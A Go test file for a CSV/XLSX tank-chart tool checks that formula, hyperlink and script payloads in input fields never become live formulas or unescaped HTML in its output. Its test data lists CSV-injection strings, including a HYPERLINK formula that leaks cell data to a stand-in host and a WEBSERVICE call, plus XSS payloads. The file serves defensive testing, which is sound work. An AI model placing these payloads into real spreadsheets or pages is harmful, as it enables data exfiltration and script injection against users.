package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// biting are texts that a spreadsheet program takes for a formula, or that reach
// out of the file, as site names and tank names.
var biting = []string{
	`=4711+1`, `+4711+1`, `-4711+1`, `@SUM(A1)`, `=HYPERLINK("http://a.example/?"&A1,"open")`, `=WEBSERVICE("http://a.example/")`, "\t=4711+1", "\r=4711+1",
	`＝4711+1`, `＋1`, `－1`, `＠x`, `'=4711+1`, ` =4711+1`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `a"b'c<d>&e`,
}

// bitingBook writes a CSV book in which every site, tank, job and remark bites.
func bitingBook(t *testing.T, path string) {
	t.Helper()
	rows := [][]string{{"Site", "Job", "Tank", "Product", "Place", "Device", "Riser height (in)", "Face to bottom (in)", "Inside diameter (in)", "Remarks"}}
	charts := [][]string{{"Tank", "Depth (in)", "Volume (gal)"}}
	devices := [][]string{{"Device", "Shutoff drop (in)", "Least tube below tank top (in)", "Least upper tube (in)", "Body length (in)", "Least bottom clearance (in)", "Cut step (in)", "Source"}}
	for i, text := range biting {
		tank := text + string(rune('A'+i))
		rows = append(rows, []string{text, text, tank, text, "US-federal", text, "36", "132", "96", text})
		devices = append(devices, []string{text, "2 3/8", "5 3/4", "14 1/2", "12 7/8", "4", "1/16", text})
		for depth, volume := range []string{"0", "120", "500", "1000", "1600", "2200", "2700", "3000", "3100"} {
			charts = append(charts, []string{tank, []string{"0", "12", "24", "36", "48", "60", "72", "84", "96"}[depth], volume})
		}
	}
	if err := os.MkdirAll(path, 0o777); err != nil {
		t.Fatal(err)
	}
	for name, table := range map[string][][]string{"tanks.csv": rows, "charts.csv": charts, "devices.csv": devices} {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.WriteAll(table); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(path, name), b.Bytes(), 0o666); err != nil {
			t.Fatal(err)
		}
	}
}

// bites reports whether a field of CSV would be run: OWASP, "CSV Injection", for
// the first characters; the wide forms are taken for the narrow ones by programs
// set to East Asian languages (common practice, no source).
func bites(field string) bool {
	if field == "" {
		return false
	}
	for _, start := range []string{"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(field, start) {
			return !regexp.MustCompile(`^[+-]?[0-9][0-9.,]*$`).MatchString(field)
		}
	}
	return false
}

// Whatever is written into CSV that dropcut makes, no field runs; in workbooks
// such a text stands as a text and never as a formula, and no part names a
// place outside the file.
func TestTextThatBites(t *testing.T) {
	dir := t.TempDir()
	book := filepath.Join(dir, "book")
	bitingBook(t, book)
	must := func(args ...string) string {
		var out, errs bytes.Buffer
		if status := run(context.Background(), append([]string{"dropcut"}, args...), nil, &out, &errs); status != statusDone && status != statusStops {
			t.Fatalf("%.200q ended with %d: %s", args, status, errs.String())
		}
		return out.String()
	}
	data := map[string]string{
		"inspect": must("inspect", "--quiet", "--format", "csv", "--save", filepath.Join(dir, "made/notes.csv"), book),
		"audit":   must("audit", "--quiet", "--format", "csv", book),
		"plan":    must("plan", "--quiet", "--format", "csv", "--out", filepath.Join(dir, "made/plan"), book),
		"explain": must("explain", "--format", "csv", "--tank", biting[0]+"A", book),
		"diff":    must("diff", "--format", "csv", filepath.Join(book, "charts.csv"), book),
	}
	must("convert", "--quiet", "--to", filepath.Join(dir, "made/charts.csv"), book)
	must("convert", "--quiet", "--layout", "wide", "--to", filepath.Join(dir, "made/wide.csv"), book)
	must("convert", "--quiet", "--to", filepath.Join(dir, "made/charts.xlsx"), book)
	must("convert", "--quiet", "--layout", "folded", "--to", filepath.Join(dir, "made/folded.xlsx"), book)
	must("jobs", "--quiet", "--out", filepath.Join(dir, "made"), book)
	must("run", "--quiet", "--out", filepath.Join(dir, "made/run"), dir)

	looked, formulas := 0, 0
	err := filepath.WalkDir(filepath.Join(dir, "made"), func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.Contains(path, ".dropcut") {
			return err
		}
		content, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, path)
		switch filepath.Ext(path) {
		case ".csv":
			data[rel] = string(content)
		case ".xlsx":
			looked++
			for _, part := range unpack(t, content) {
				text := string(part.data)
				for _, f := range regexp.MustCompile(`<f[ >][^<]*</f>`).FindAllString(text, -1) {
					formulas++
					// Names of sheets and texts stand in quotes and are no more than that.
					f = regexp.MustCompile(`'(''|[^'])*'|"(""|[^"])*"`).ReplaceAllString(strings.ReplaceAll(f, "&quot;", `"`), "")
					if strings.Contains(f, "HYPERLINK") || strings.Contains(f, "WEBSERVICE") || strings.Contains(f, "4711+1") {
						t.Errorf("%s, %s: a text has become the formula %s", rel, part.name, f)
					}
				}
				if strings.Contains(text, `TargetMode="External"`) || strings.Contains(text, "<!DOCTYPE") || strings.Contains(part.name, "vba") {
					t.Errorf("%s, %s reaches out of the file", rel, part.name)
				}
			}
		case ".html":
			looked++
			for _, bad := range []string{"<script>alert", "<img src=x", `onerror=alert(1)>`} {
				if strings.Contains(string(content), bad) {
					t.Errorf("%s holds %s as it is", rel, bad)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if looked < 5 || formulas == 0 {
		t.Fatalf("only %d books with %d formulas were looked at", looked, formulas)
	}
	for name, text := range data {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			r := csv.NewReader(strings.NewReader(text))
			r.FieldsPerRecord = -1
			rows, err = r.ReadAll()
		}
		if err != nil || len(rows) < 2 {
			t.Errorf("%s: %d rows, %v", name, len(rows), err)
		}
		for i, row := range rows {
			for k, field := range row {
				// The contractor's own columns stay as they are, to the byte.
				own := strings.HasSuffix(name, "tanks.csv") && k < 10 || regexp.MustCompile(`book-planned/(charts|devices).csv$`).MatchString(filepath.ToSlash(name))
				if bites(field) && !own {
					t.Errorf("%s, row %d, column %d would be run: %q", name, i+1, k+1, field)
				}
			}
		}
	}
	// There and back: the charts that were written are read as the charts of the
	// same tanks.
	if out := must("diff", book, filepath.Join(dir, "made/charts.csv")); strings.Contains(out, "chart is gone") || strings.Contains(out, "new chart") {
		t.Errorf("the charts have other names after being written and read: %s", out)
	}
	with := filepath.Join(dir, "again")
	if err := os.MkdirAll(with, 0o777); err != nil {
		t.Fatal(err)
	}
	for from, to := range map[string]string{"book/tanks.csv": "tanks.csv", "book/devices.csv": "devices.csv", "made/charts.csv": "charts.csv"} {
		content, err := os.ReadFile(filepath.Join(dir, from))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(with, to), content, 0o666); err != nil {
			t.Fatal(err)
		}
	}
	if out := must("diff", book, with); !strings.Contains(out, "no changes") {
		t.Errorf("after there and back: %s", out)
	}
}
